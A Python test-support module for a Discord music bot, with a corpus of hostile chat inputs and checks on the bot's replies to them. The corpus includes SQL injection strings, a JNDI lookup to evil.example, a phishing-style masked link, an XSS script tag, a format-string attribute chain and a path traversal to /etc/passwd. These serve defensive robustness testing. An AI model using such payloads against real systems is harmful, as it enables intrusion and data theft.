"""A corpus of hostile chat inputs, and the checks every reply to them must pass.

Used by tests/test_hostile.py (dpytest and console paths) and benchmarks/bench_load.py
(which prints the same figure). Each input is used as the argument of every command
(``!recommend <input>``, ``!vibe <input>`` …) and also as a whole line on its own.

Nothing here imports discord, so the benchmark can use it without a bot.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

# Discord's limits, restated here on purpose (not imported from bot.replies) so a wrong
# constant in the code under test cannot make its own check pass.
MESSAGE_LIMIT = 2000
EMBED_TOTAL = 6000
EMBED_TITLE = 256
EMBED_DESCRIPTION = 4096
EMBED_FIELDS = 25
FIELD_NAME = 256
FIELD_VALUE = 1024
FOOTER = 2048
SELECT_OPTIONS = 25
OPTION_LABEL = 100
OPTION_VALUE = 100
OPTION_DESCRIPTION = 100
#: An error reply is "short": it fits on a phone screen.
SHORT_ERROR = 600

#: Every command the text front ends know, each given the hostile input as its argument.
COMMANDS: tuple[str, ...] = (
    "recommend",
    "cluster",
    "vibe",
    "moods",
    "history",
    "forget",
    "help",
    "more",
    "like",
    "dislike",
    "link",
    "foryou",
    "playlist",
    "taste",
    "blend",
    "privacy",
)
#: Pseudo-command: the input typed as a whole line (no command word in front).
RAW = "(raw line)"


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str
    tags: tuple[str, ...] = field(default=())


def _h(name: str, text: str, *tags: str) -> Hostile:
    return Hostile(name, text, tags)


_LONG_WORDS = ("la java " * 300)[:2000]
_ZALGO = "Z" + "\u0336\u0335\u0334\u0337\u0338\u0321\u0322\u0327\u0328\u031b" * 60 + "algo"

HOSTILE_INPUTS: tuple[Hostile, ...] = (
    # -- empty and whitespace
    _h("empty", "", "empty"),
    _h("spaces", "     ", "empty"),
    _h("tabs-newlines", "\t\n \r\n\t", "empty"),
    _h("nbsp-ideographic-space", "\u00a0\u3000\u2003", "empty"),
    # -- long strings
    _h("2000-a", "a" * 2000, "long"),
    _h("2000-words", _LONG_WORDS, "long"),
    _h("10000-x", "x" * 10_000, "long"),
    _h("10000-mixed", ("hey jude 3 energy>0.5 " * 500)[:10_000], "long"),
    _h("5000-digits", "9" * 5000, "long", "count"),
    # -- emoji
    _h("emoji-only", "🎵🎶🔥💀", "emoji"),
    _h("zwj-family-x50", "👨\u200d👩\u200d👧\u200d👦" * 50, "emoji"),
    _h("flags", "🇫🇷🇺🇸🏴\u200d☠️", "emoji"),
    _h("keycap-digits", "1️⃣2️⃣3️⃣", "emoji", "count"),
    # -- invisible and bidi
    _h("zero-width-only", "\u200b\u200c\u200d\u2060\ufeff", "invisible"),
    _h("zero-width-in-title", "la\u200bja\u200dva", "invisible"),
    _h("bom-prefix", "\ufeffla java", "invisible"),
    _h("rtl-override", "\u202eavaj al\u202c", "bidi"),
    _h("rtl-isolates", "\u2067la java\u2069 \u2066x\u2069", "bidi"),
    _h("arabic", "أغنية حزينة جدا", "bidi"),
    _h("hebrew-mixed", "שיר la java שיר", "bidi"),
    # -- combining marks
    _h("zalgo", _ZALGO, "combining"),
    _h("combining-only", "\u0301" * 500, "combining"),
    _h("decomposed-accents", "Cafe\u0301 de\u0301ja\u0300 vu", "combining"),
    # -- control characters and NUL
    _h("nul", "\x00", "control"),
    _h("nul-in-title", "la\x00java", "control"),
    _h("c0-controls", "\x01\x02\x07\x08\x0b\x0c\x1b", "control"),
    _h("ansi-escape", "\x1b[2J\x1b[31mred\x1b[0m", "control"),
    _h("del-and-c1", "\x7f\x85\x9b", "control"),
    _h("lone-surrogate", "la java \udcff", "control"),
    # -- mentions
    _h("everyone", "@everyone", "mention"),
    _h("here", "@here", "mention"),
    _h("everyone-with-title", "@everyone la java", "mention"),
    _h("user-mention", "<@123456789012345678>", "mention"),
    _h("nick-mention", "<@!123456789012345678>", "mention"),
    _h("role-mention", "<@&123456789012345678>", "mention"),
    _h("channel-mention", "<#123456789012345678>", "mention"),
    _h("slash-mention", "</recommend:123456789012345678>", "mention"),
    _h("pre-escaped-everyone", "@\u200beveryone", "mention"),
    _h("everyone-fullwidth-at", "＠everyone", "mention"),
    # -- markdown
    _h("markdown-mix", "**bold** __under__ ~~strike~~ ||spoiler|| *it*", "markdown"),
    _h("code-fence", "```py\nprint('hi')\n```", "markdown"),
    _h("unclosed-fence", "```", "markdown"),
    _h("inline-code", "`la java`", "markdown"),
    _h("block-quote", "> quoted\n>>> the rest", "markdown"),
    _h("headings", "# Big\n## headline\n-# small", "markdown"),
    _h("backslashes", "\\\\\\*\\", "markdown"),
    # -- links
    _h("masked-link", "[free nitro](https://evil.example/steal)", "link"),
    _h("invite-link", "https://discord.gg/abcdef", "link"),
    _h("angle-link", "<https://example.com/?a=1&b=<script>>", "link"),
    _h("html-script", "<script>alert(1)</script>", "link"),
    # -- SQL fragments
    _h("sql-drop", "'; DROP TABLE requests; --", "sql"),
    _h("sql-or", '" OR 1=1 --', "sql"),
    _h("sql-after-title", "la java'); DELETE FROM users; --", "sql"),
    _h("sql-union", "' UNION SELECT name FROM sqlite_master --", "sql"),
    _h("sql-pragma", "x'; PRAGMA writable_schema=1; --", "sql"),
    # -- format strings and template injection
    _h("format-brace", "{0}", "format"),
    _h("format-attr", "{0.__class__.__mro__[1].__subclasses__}", "format"),
    _h("percent-format", "%s%s%s%n%x", "format"),
    _h("jndi", "${jndi:ldap://evil.example/a}", "format"),
    _h("braces", "{{}}{ {{{", "format"),
    # -- counts
    _h("count-negative", "la java -1", "count"),
    _h("count-zero", "la java 0", "count"),
    _h("count-huge", "la java 99999999999999999999999999", "count"),
    _h("count-too-many", "la java 11", "count"),
    _h("count-exponent", "la java 1e9", "count"),
    _h("count-word", "la java three", "count"),
    _h("count-float", "la java 2.5", "count"),
    _h("count-arabic-digits", "la java \u0661\u0662", "count"),
    _h("count-plus", "la java +3", "count"),
    _h("bare-zero", "0", "count"),
    _h("bare-negative", "-5", "count"),
    _h("bare-huge", "18446744073709551617", "count"),
    _h("nan", "nan", "count"),
    _h("inf", "-inf", "count"),
    # -- malformed targets
    _h("target-double-op", "la java energy>>2", "target"),
    _h("target-reversed", "la java tempo 200-100", "target"),
    _h("target-only-double-op", "energy>>2", "target"),
    _h("target-only-reversed", "tempo 200-100", "target"),
    _h("target-nan", "la java energy>nan", "target"),
    _h("target-out-of-range", "la java year 99999", "target"),
    _h("target-huge-float", "la java loudness<-1e308", "target"),
    _h("target-flood", "energy>0.1 " * 40, "target"),
    _h("target-unknown-field", "la java enrgy>0.5", "target"),
    # -- moods
    _h("unknown-mood", "sadboi", "mood"),
    _h("mood-typo", "chil", "mood"),
    _h("mood-with-count", "chill 0", "mood", "count"),
    # -- command injection and oddities
    _h("nested-command", "!forget", "inject"),
    _h("yes", "yes", "inject"),
    _h("newline-command", "la java\n!forget\nyes", "inject"),
    _h("prefix-only", "!!!!", "inject"),
    _h("path-traversal", "../../../../etc/passwd", "inject"),
    _h("null-words", "None null undefined NaN", "inject"),
    _h("homoglyphs", "Ⅼa Ꭻava", "inject"),
    _h("fullwidth", "ｌａ ｊａｖａ", "inject"),
)

assert len(HOSTILE_INPUTS) >= 60, len(HOSTILE_INPUTS)
assert len({h.name for h in HOSTILE_INPUTS}) == len(HOSTILE_INPUTS), "duplicate names"


def command_line(command: str, text: str, prefix: str = "!") -> str:
    """The line a user would type to run ``command`` on ``text``."""
    if command == RAW:
        return text
    return f"{prefix}{command} {text}"


# --------------------------------------------------------------------------- checks
# Each returns a list of problems (empty = fine), so a run can report them all at once.


def limit_problems_payload(
    content: str | None, embeds: list[dict] | None, components: list[dict] | None = None
) -> list[str]:
    """Discord's limits on one outgoing message, given as API-style dicts."""
    out: list[str] = []
    if content is not None and len(content) > MESSAGE_LIMIT:
        out.append(f"content {len(content)} > {MESSAGE_LIMIT}")
    for e in embeds or []:
        title, desc = e.get("title") or "", e.get("description") or ""
        footer = (e.get("footer") or {}).get("text") or ""
        fields = e.get("fields") or []
        if len(title) > EMBED_TITLE:
            out.append(f"embed title {len(title)}")
        if len(desc) > EMBED_DESCRIPTION:
            out.append(f"embed description {len(desc)}")
        if len(footer) > FOOTER:
            out.append(f"embed footer {len(footer)}")
        if len(fields) > EMBED_FIELDS:
            out.append(f"embed fields {len(fields)}")
        total = len(title) + len(desc) + len(footer)
        for f in fields:
            name, value = f.get("name") or "", f.get("value") or ""
            total += len(name) + len(value)
            if not name or len(name) > FIELD_NAME:
                out.append(f"field name {len(name)}")
            if not value or len(value) > FIELD_VALUE:
                out.append(f"field value {len(value)}")
        if total > EMBED_TOTAL:
            out.append(f"embed total {total}")
    out.extend(_component_problems(components or []))
    return out


def _component_problems(components: list[dict]) -> list[str]:
    out: list[str] = []
    if len(components) > 5:
        out.append(f"{len(components)} action rows > 5")
    for row in components:
        children = row.get("components", [row])
        if len(children) > 5:
            out.append(f"{len(children)} components in a row > 5")
        for c in children:
            if len(c.get("label") or "") > 80:
                out.append(f"button label {len(c['label'])} > 80")
            if len(c.get("custom_id") or "") > 100:
                out.append(f"custom_id {len(c['custom_id'])} > 100")
            if len(c.get("placeholder") or "") > 150:
                out.append(f"placeholder {len(c['placeholder'])} > 150")
            options = c.get("options") or []
            if len(options) > SELECT_OPTIONS:
                out.append(f"select options {len(options)} > {SELECT_OPTIONS}")
            for o in options:
                if not o.get("label") or len(o["label"]) > OPTION_LABEL:
                    out.append(f"option label {len(o.get('label') or '')}")
                if not o.get("value") or len(o["value"]) > OPTION_VALUE:
                    out.append(f"option value {len(o.get('value') or '')}")
                if len(o.get("description") or "") > OPTION_DESCRIPTION:
                    out.append(f"option description {len(o['description'])}")
    return out


def reply_limit_problems(reply) -> list[str]:
    """Discord's limits on a (fitted) bot.replies.Reply."""
    card = reply.card
    embeds = []
    if card is not None:
        embeds.append(
            {
                "title": card.title,
                "description": card.description,
                "footer": {"text": card.footer},
                "fields": [{"name": f.name, "value": f.value} for f in card.fields],
            }
        )
    options = [{"label": c.label, "value": c.value, "description": c.description} for c in reply.choices]
    components = [{"components": [{"options": options}]}] if options else []
    return limit_problems_payload(reply.text, embeds, components)


_ACTION_WORDS = (
    "try",
    "example",
    "e.g.",
    "did you mean",
    "use ",
    "tell me",
    "pick",
    "start with",
    "rate",
    "type",
    "known",
    "between",
    "must",
    "at most",
    "check",
    "help",
    "choose",
    "which",
    "again",
)


def says_what_to_do(text: str) -> bool:
    """An error reply names a next step: an example, a suggestion or a rule to follow."""
    low = text.lower()
    return any(w in low for w in _ACTION_WORDS) or "!" in text[2:] or "/" in text


_PING = ("@everyone", "@here")


def unescaped_pings(text: str) -> list[str]:
    """Mention syntax that reaches the message unbroken (it must at least look inert)."""
    found = [p for p in _PING if p in text]
    found += re.findall(r"<@[!&]?\d+>", text)
    return found


# --------------------------------------------------------------------------- accounting
def expected_after(command: str, reply, before: dict[str, int], had_rating: bool) -> dict[str, int]:
    """The user's row counts after ``reply`` to ``command``, given the counts before.

    The rule: a request row (plus one shown row per pick) only for a successful
    recommend / vibe / cluster / foryou / blend (``more`` re-runs one of them) or a list
    answering plain language (which also keeps the conversation, one row); a request and a
    playlist row for a new playlist; a feedback row
    only for a successful rating of a song not rated before; a confirmed forget empties
    everything; anything else — errors, questions, help, history — adds nothing.
    """
    after = dict(before)
    if reply is None or reply.error or reply.choices:
        return after
    if reply.text.startswith("🧹"):
        return dict.fromkeys(before, 0)
    if reply.understood and reply.picks:  # a list from plain language (any line may be one)
        after["requests"] += 1
        after["shown"] += len(reply.picks)
        after["users"] = 1
        after["conversations"] = 1  # the member's conversation in this channel, kept
    elif (
        command == "playlist"
        and reply.attachments
        and reply.card is not None
        and "Mean step" in reply.card.footer
    ):  # a new playlist (not "playlist last")
        after["requests"] += 1
        after["playlists"] += 1
        after["users"] = 1
    elif command in ("recommend", "vibe", "more", "foryou", "blend") and reply.picks:
        after["requests"] += 1
        after["shown"] += len(reply.picks)
        after["users"] = 1
    elif command == "cluster" and reply.card is not None:
        after["requests"] += 1
        after["users"] = 1
    elif command == "privacy" and reply.text[:1] in ("🔒", "🔓"):  # the setting needs a user row
        after["users"] = 1
    elif command in ("like", "dislike") and reply.text[:1] in ("👍", "👎"):
        after["feedback"] += 0 if had_rating else 1
        after["users"] = 1
    return after


def typed_command(line: str, prefix: str = "!") -> str:
    """Which command a typed line runs, parsed the way Conversation.handle_line does."""
    from bot.conversation import ALIASES

    text = line.strip()
    if text.startswith(prefix):
        text = text[len(prefix) :].lstrip()
    word = text.partition(" ")[0].lower()
    return ALIASES.get(word, word)


def console_lines(line: str) -> list[str]:
    """What the console's readline() sees for a typed string: universal newlines split it."""
    parts = re.split(r"\r\n|\r|\n", line)
    return [p + "\n" for p in parts]


_TERMINAL_UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")


def terminal_unsafe(text: str) -> list[str]:
    """Characters that would drive or reorder a terminal if printed."""
    return sorted({f"U+{ord(c):04X}" for c in _TERMINAL_UNSAFE.findall(text)})


def reply_problems(reply, command: str, line: str) -> list[str]:
    """Everything wrong with one reply, independent of the transport."""
    from bot.replies import render_text

    out: list[str] = []
    if reply is None:
        if line.strip():
            out.append("no reply to a non-blank line")
        return out
    fitted = reply.fitted()
    out += reply_limit_problems(fitted)
    if reply.error:
        if len(reply.text) > SHORT_ERROR:
            out.append(f"error reply is {len(reply.text)} characters")
        if not says_what_to_do(reply.text):
            out.append(f"error reply does not say what to do: {reply.text[:120]!r}")
        if "Something went wrong" in reply.text:
            out.append("generic failure reply")
    shown = [fitted.text]
    if fitted.card is not None:
        c = fitted.card
        shown += [c.title, c.description, c.footer, *(f.name for f in c.fields), *(f.value for f in c.fields)]
    for piece in shown:
        if pings := unescaped_pings(piece):
            out.append(f"mention syntax reaches the message: {pings}")
    rendered = render_text(fitted)
    if bad := terminal_unsafe(rendered):
        out.append(f"console output holds terminal control characters {bad}")
    try:
        rendered.encode("utf-8")
    except UnicodeEncodeError as exc:
        out.append(f"console output cannot be printed as UTF-8: {exc.reason}")
    return out


async def run_console_corpus(
    conversation, store, user_base: int = 10_000_000, inputs: tuple[Hostile, ...] = HOSTILE_INPUTS
):
    """Every input × every command through the console path (handle_line → render_text).

    Each input gets its own user, so its rows can be accounted for: after all its
    commands, the user's rows must be exactly what the replies say they added.
    Returns ``(tried, failures)``; ``failures`` lists ``(input, command, problem)``.
    """
    from bot.conversation import Requester

    tried = 0
    failures: list[tuple[str, str, str]] = []
    for n, h in enumerate(inputs):
        who = Requester(id=user_base + n, name="hostile")
        start = await store.row_counts(who.id)
        want = dict(start)
        for command in (*COMMANDS, RAW):
            tried += 1
            for line in console_lines(command_line(command, h.text, conversation.prefix)):
                problems, want = await console_turn(conversation, store, who, line, want)
                failures += [(h.name, command, p) for p in problems]
        failures += [(h.name, "*", p) for p in await rows_problems(store, who.id, start, want)]
    return tried, failures


async def console_turn(
    conversation, store, who, line: str, want: dict[str, int]
) -> tuple[list[str], dict[str, int]]:
    """One console line, exactly as bot.console.run_console handles it, plus every check.

    ``want`` is the user's expected row counts before the line; returns the problems
    found and the expected counts after it.
    """
    command = typed_command(line, conversation.prefix)
    rating = command in ("like", "dislike")
    rated = await store.feedback(who.id) if rating else {}
    try:
        reply = await conversation.handle_line(who, line)
    except Exception as exc:  # noqa: BLE001 - that is the failure being counted
        return [f"exception escaped: {type(exc).__name__}: {str(exc)[:200]}"], want
    problems = reply_problems(reply, command, line)
    new_ratings = set(await store.feedback(who.id)) - set(rated) if rating else set()
    if len(new_ratings) > 1:
        problems.append(f"{len(new_ratings)} ratings added by one command")
    return problems, expected_after(command, reply, want, had_rating=not new_ratings)


async def rows_problems(store, user_id: int, before: dict[str, int], want: dict[str, int]) -> list[str]:
    """The user's rows now against what the replies since ``before`` should have added."""
    got = await store.row_counts(user_id)
    if got != want:
        return [f"history rows {got}, expected {want} (before {before})"]
    if got["requests"]:
        commands = {e.command for e in await store.recent(user_id, 1000)}
        if not commands <= {"recommend", "vibe", "cluster", "foryou", "playlist", "blend", "ask"}:
            return [f"recorded commands {sorted(commands)}"]
    return []
